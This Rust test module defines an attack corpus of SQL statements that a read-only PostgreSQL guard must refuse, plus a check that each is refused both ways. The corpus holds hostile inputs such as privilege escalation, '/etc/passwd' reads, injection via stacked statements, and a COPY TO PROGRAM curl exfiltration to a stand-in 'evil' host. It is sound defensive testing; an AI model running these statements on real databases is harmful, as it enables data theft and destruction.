//! The attack corpus shared by tests/guard.rs, tests/identity.rs and
//! tests/upstream_layers.rs, and the check that a statement is refused.

use super::wire::{batch, bind, execute, parse, sync, Msg, Wire};

/// The SQLSTATE of the first ErrorResponse among `msgs`.
pub fn sqlstate(msgs: &[Msg]) -> Option<String> {
    msgs.iter()
        .find(|m| m.tag == b'E')
        .and_then(|m| m.field(b'C'))
}

/// Sends `sql` as a simple Query and as Parse/Bind/Execute/Sync: both must be refused with
/// one of `codes`, without rows, and leave the session usable.
pub async fn assert_refused_both_ways(conn: &mut Wire, sql: &str, codes: &[&str]) {
    let simple = conn.query(sql).await;
    let code =
        sqlstate(&simple).unwrap_or_else(|| panic!("not refused (simple): {sql:?} → {simple:?}"));
    assert!(
        codes.contains(&code.as_str()),
        "{sql:?}: got {code}, expected one of {codes:?}"
    );
    assert!(
        !simple.iter().any(|m| m.tag == b'D'),
        "{sql:?} returned rows"
    );
    conn.send(&batch(&[
        parse("", sql, &[]),
        bind("", "", &[], &[], &[]),
        execute("", 0),
        sync(),
    ]))
    .await;
    let extended = conn.until_ready().await;
    let code = sqlstate(&extended)
        .unwrap_or_else(|| panic!("not refused (extended): {sql:?} → {extended:?}"));
    assert!(
        codes.contains(&code.as_str()),
        "{sql:?} (extended): got {code}"
    );
    // The session is intact for the next statement.
    assert_eq!(conn.query("ROLLBACK").await.last().unwrap().body, b"I");
}

/// (statement, accepted SQLSTATEs): every class of refusal in README.md's "Read-only by
/// construction".
pub fn attack_corpus() -> Vec<(String, &'static [&'static str])> {
    const W: &[&str] = &["25006"];
    const P: &[&str] = &["42501"];
    const S: &[&str] = &["42601"];
    const ANY: &[&str] = &["25006", "42501", "42601"];
    let mut corpus: Vec<(String, &[&str])> = Vec::new();
    let mut add = |sql: &str, codes: &'static [&'static str]| corpus.push((sql.to_owned(), codes));
    // DML and DDL.
    for sql in [
        "INSERT INTO customers VALUES (5000, 'x', 'y', '2020-01-01', 0)",
        "UPDATE customers SET name = 'x'",
        "DELETE FROM orders",
        "TRUNCATE orders",
        "MERGE INTO customers c USING customers d ON c.id = d.id WHEN MATCHED THEN DELETE",
        "CREATE TABLE evil (a int)",
        "CREATE TEMP TABLE evil (a int)",
        "CREATE INDEX ON customers (name)",
        "CREATE VIEW v AS SELECT 1",
        "CREATE SCHEMA evil",
        "CREATE SEQUENCE s",
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'",
        "DROP TABLE customers",
        "DROP VIEW customer_totals",
        "ALTER TABLE customers ADD COLUMN x int",
        "COMMENT ON TABLE customers IS 'x'",
        "GRANT SELECT ON customers TO PUBLIC",
        "REVOKE SELECT ON customers FROM askpg_reader",
        "LOCK TABLE customers",
        "VACUUM customers",
        "ANALYZE customers",
        "CALL some_procedure()",
    ] {
        add(sql, W);
    }
    // Data-modifying CTEs, SELECT INTO, locking, anywhere in the tree.
    for sql in [
        "WITH d AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM d",
        "WITH u AS (UPDATE customers SET name = 'x' RETURNING id) SELECT * FROM u",
        "WITH i AS (INSERT INTO customers VALUES (6000, 'a', 'b', '2020-01-01', 0) RETURNING id) SELECT 1",
        "SELECT * FROM (WITH d AS (DELETE FROM orders RETURNING id) SELECT id FROM d) s",
        "SELECT (WITH d AS (DELETE FROM orders RETURNING id) SELECT max(id) FROM d)",
        "WITH a AS (SELECT 1), b AS (DELETE FROM orders RETURNING 1) SELECT * FROM a",
        "SELECT * INTO stolen FROM customers",
        "SELECT * INTO TEMP stolen FROM customers",
        "SELECT * FROM customers FOR UPDATE",
        "SELECT * FROM customers FOR SHARE",
        "SELECT * FROM (SELECT * FROM customers FOR UPDATE) s",
        "SELECT * FROM customers WHERE id IN (SELECT customer_id FROM orders FOR UPDATE)",
        "EXPLAIN ANALYZE DELETE FROM orders",
        "EXPLAIN ANALYZE SELECT 1",
        "EXPLAIN (ANALYZE, BUFFERS) UPDATE customers SET name = 'x'",
        "EXPLAIN (ANALYZE true) SELECT 1",
    ] {
        add(sql, W);
    }
    // Denied functions in every spelling.
    let functions = [
        "nextval('s')",
        "setval('s', 1)",
        "pg_sleep(1)",
        "pg_sleep_for('1 s')",
        "pg_sleep_until(now())",
        "pg_advisory_lock(1)",
        "pg_advisory_xact_lock(1)",
        "pg_try_advisory_lock(1)",
        "pg_advisory_lock_shared(1)",
        "pg_terminate_backend(1)",
        "pg_cancel_backend(1)",
        "pg_reload_conf()",
        "pg_rotate_logfile()",
        "lo_import('/etc/passwd')",
        "lo_export(1, '/tmp/x')",
        "lo_create(0)",
        "lo_unlink(1)",
        "pg_read_file('/etc/passwd')",
        "pg_read_binary_file('/etc/passwd')",
        "pg_ls_dir('.')",
        "pg_ls_waldir()",
        "pg_stat_file('postgresql.conf')",
        "dblink('host=x', 'DELETE FROM t')",
        "dblink_exec('x', 'y')",
        "pg_notify('c', 'x')",
        "txid_current()",
        "pg_current_xact_id()",
        "query_to_xml('DELETE FROM orders', true, true, '')",
        "table_to_xml('customers', true, true, '')",
        "database_to_xml(true, true, '')",
        "schema_to_xml('public', true, true, '')",
        "cursor_to_xml('c', 1, true, true, '')",
        "ts_stat('SELECT 1')",
        "pg_logical_emit_message(true, 'x', 'y')",
    ];
    for f in functions {
        let bare = f.split('(').next().unwrap();
        let rest = &f[bare.len()..];
        for spelling in [
            format!("SELECT {f}"),
            format!("SELECT pg_catalog.{f}"),
            format!("SELECT \"{bare}\"{rest}"),
            format!("SELECT {}{rest}", bare.to_uppercase()),
        ] {
            add(&spelling, P);
        }
    }
    for sql in [
        "SELECT * FROM pg_catalog.pg_sleep(1)",
        "SELECT 1 FROM customers WHERE id = (SELECT nextval('s'))",
        "SELECT CASE WHEN true THEN pg_sleep(1) END",
        "SELECT coalesce(NULL, pg_advisory_lock(1)::text)",
        "SELECT * FROM customers ORDER BY pg_sleep(1)",
        "SELECT array_agg(pg_terminate_backend(pid)) FROM pg_stat_activity",
        // A user-defined VOLATILE function, known from the upstream catalog.
        "SELECT bump()",
        "SELECT public.bump() FROM customers",
    ] {
        add(sql, P);
    }
    // Escapes from read-only mode and protected settings.
    for (sql, codes) in [
        ("BEGIN READ WRITE", W),
        ("BEGIN ISOLATION LEVEL SERIALIZABLE, READ WRITE", W),
        ("START TRANSACTION READ WRITE", W),
        ("SET TRANSACTION READ WRITE", W),
        ("SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE", W),
        ("SET default_transaction_read_only = off", P),
        ("SET default_transaction_read_only TO DEFAULT", P),
        ("SET SESSION default_transaction_read_only = false", P),
        ("SET transaction_read_only = off", P),
        ("RESET default_transaction_read_only", P),
        ("RESET transaction_read_only", P),
        ("SET statement_timeout = 0", P),
        ("SET LOCAL statement_timeout = 0", P),
        ("RESET statement_timeout", P),
        ("SET lock_timeout = 0", P),
        ("SET idle_in_transaction_session_timeout = 0", P),
        ("SET ROLE postgres", P),
        ("SET ROLE NONE", P),
        ("SET SESSION AUTHORIZATION postgres", P),
        ("RESET SESSION AUTHORIZATION", P),
        ("RESET ROLE", P),
        ("SET standard_conforming_strings = off", P),
        ("SET client_encoding = 'SQL_ASCII'", P),
        ("SET NAMES 'LATIN1'", P),
        ("SET session_replication_role = replica", P),
        (
            "SELECT set_config('default_transaction_read_only', 'off', false)",
            P,
        ),
        ("SELECT set_config('statement_timeout', '0', false)", P),
        ("SELECT pg_catalog.set_config('role', 'postgres', false)", P),
        (
            "SELECT set_config(current_setting('application_name'), 'off', false)",
            P,
        ),
        ("COMMIT; DELETE FROM orders", W),
        (
            "COMMIT; SET default_transaction_read_only = off; DELETE FROM orders",
            ANY,
        ),
        ("ROLLBACK; BEGIN READ WRITE; DELETE FROM orders; COMMIT", W),
        ("SELECT 1; DELETE FROM orders", W),
        ("SELECT 1; SELECT 2; DROP TABLE customers", W),
        ("ALTER ROLE askpg_reader SUPERUSER", P),
        ("ALTER SYSTEM SET default_transaction_read_only = off", P),
        ("ALTER SYSTEM RESET ALL", P),
        // The pinned timeouts may be lowered, never raised, disabled or reset.
        ("SET statement_timeout = '10min'", P),
        ("SET statement_timeout TO DEFAULT", P),
        ("SET statement_timeout = '0.4'", P),
        ("SET SESSION lock_timeout = '1h'", P),
        ("SET idle_in_transaction_session_timeout = '1d'", P),
        ("RESET idle_in_transaction_session_timeout", P),
        ("SET U&\"statement_t\\0069meout\" = 0", P),
        ("SELECT set_config('lock_timeout', '0', false)", P),
        ("SELECT set_config('statement_timeout', '1h', true)", P),
        (
            "SELECT set_config(name, '0', false) FROM pg_settings WHERE name = 'statement_timeout'",
            P,
        ),
        (
            "SELECT set_config(name, '0', false) FROM pg_settings WHERE name = 'jit' OR name = 'statement_timeout'",
            P,
        ),
        (
            "SELECT (SELECT set_config(name, '0', false) FROM (VALUES ('statement_timeout')) v(name)) FROM pg_settings WHERE name = 'jit'",
            P,
        ),
        ("SET client_encoding = 'LATIN1'", P),
        ("SET transaction_read_only = off", P),
        ("SET TRANSACTION SNAPSHOT '00000003-0000001B-1'", P),
        ("PREPARE TRANSACTION 'x'", P),
        ("COMMIT PREPARED 'x'", P),
    ] {
        add(sql, codes);
    }
    // COPY variants.
    for (sql, codes) in [
        ("COPY customers FROM STDIN", W),
        ("COPY customers FROM '/etc/passwd'", W),
        ("COPY customers FROM PROGRAM 'id'", W),
        ("COPY customers TO '/tmp/stolen'", P),
        ("COPY customers TO PROGRAM 'curl -d @- evil'", P),
        ("COPY (SELECT * FROM customers) TO '/tmp/stolen'", P),
        ("COPY (SELECT * FROM customers) TO PROGRAM 'id'", P),
        ("COPY (DELETE FROM orders RETURNING *) TO STDOUT", ANY),
    ] {
        add(sql, codes);
    }
    // CALL / DO / PREPARE / EXECUTE / cursors / LISTEN / NOTIFY.
    for (sql, codes) in [
        ("DO $$ BEGIN DELETE FROM orders; END $$", P),
        ("DO 'BEGIN DELETE FROM orders; END'", P),
        ("DO LANGUAGE plpgsql $$ BEGIN PERFORM pg_sleep(10); END $$", P),
        ("PREPARE p AS DELETE FROM orders", P),
        ("PREPARE p AS SELECT 1", P),
        ("EXECUTE p", P),
        ("DECLARE c CURSOR WITH HOLD FOR SELECT * FROM customers FOR UPDATE", W),
        ("DECLARE c CURSOR WITH HOLD FOR SELECT nextval('s')", P),
        (
            "DECLARE c CURSOR WITH HOLD FOR WITH d AS (DELETE FROM orders RETURNING 1) SELECT * FROM d",
            W,
        ),
        ("LOCK TABLE customers IN EXCLUSIVE MODE", W),
        ("LOCK TABLE customers IN ROW EXCLUSIVE MODE", W),
        ("LOCK TABLE customers IN SHARE MODE NOWAIT", W),
        ("DECLARE c CURSOR FOR DELETE FROM orders RETURNING *", ANY),
        ("DECLARE c CURSOR FOR SELECT * FROM customers FOR UPDATE", W),
        ("LISTEN channel", P),
        ("NOTIFY channel, 'x'", P),
        ("REFRESH MATERIALIZED VIEW customer_totals", W),
        ("REINDEX TABLE customers", ANY),
        ("CLUSTER customers", ANY),
        ("CHECKPOINT", ANY),
        ("SECURITY LABEL ON TABLE customers IS 'x'", ANY),
        ("IMPORT FOREIGN SCHEMA x FROM SERVER y INTO z", ANY),
    ] {
        add(sql, codes);
    }
    // Comment, quoting and encoding tricks.
    for (sql, codes) in [
        ("SELECT 1 /* comment */; DELETE FROM orders", W),
        ("SELECT 1 -- comment\n; DELETE FROM orders", W),
        ("/* a /* nested */ comment */ DELETE FROM orders", W),
        ("SELECT 'a\\'; DELETE FROM orders; --'", W),
        ("SELECT E'\\''; DELETE FROM orders; --'", W),
        ("SELECT $$ $$; DELETE FROM orders; SELECT $$ $$", W),
        ("SELECT $tag$ x $tag$; DELETE FROM orders", W),
        ("SELECT U&'\\0041'; DELETE FROM orders", W),
        ("DELETE/**/FROM orders", W),
        ("DeLeTe FrOm orders", W),
        ("  \n\tDELETE FROM orders", W),
        ("SELECT 1;;; DELETE FROM orders", ANY),
        ("SELEC 1", S),
        ("SELECT * FROM customers FOR NO KEY UPDATE SKIP LOCKED", ANY),
        ("SELECT 1 +", S),
    ] {
        add(sql, codes);
    }
    corpus
}
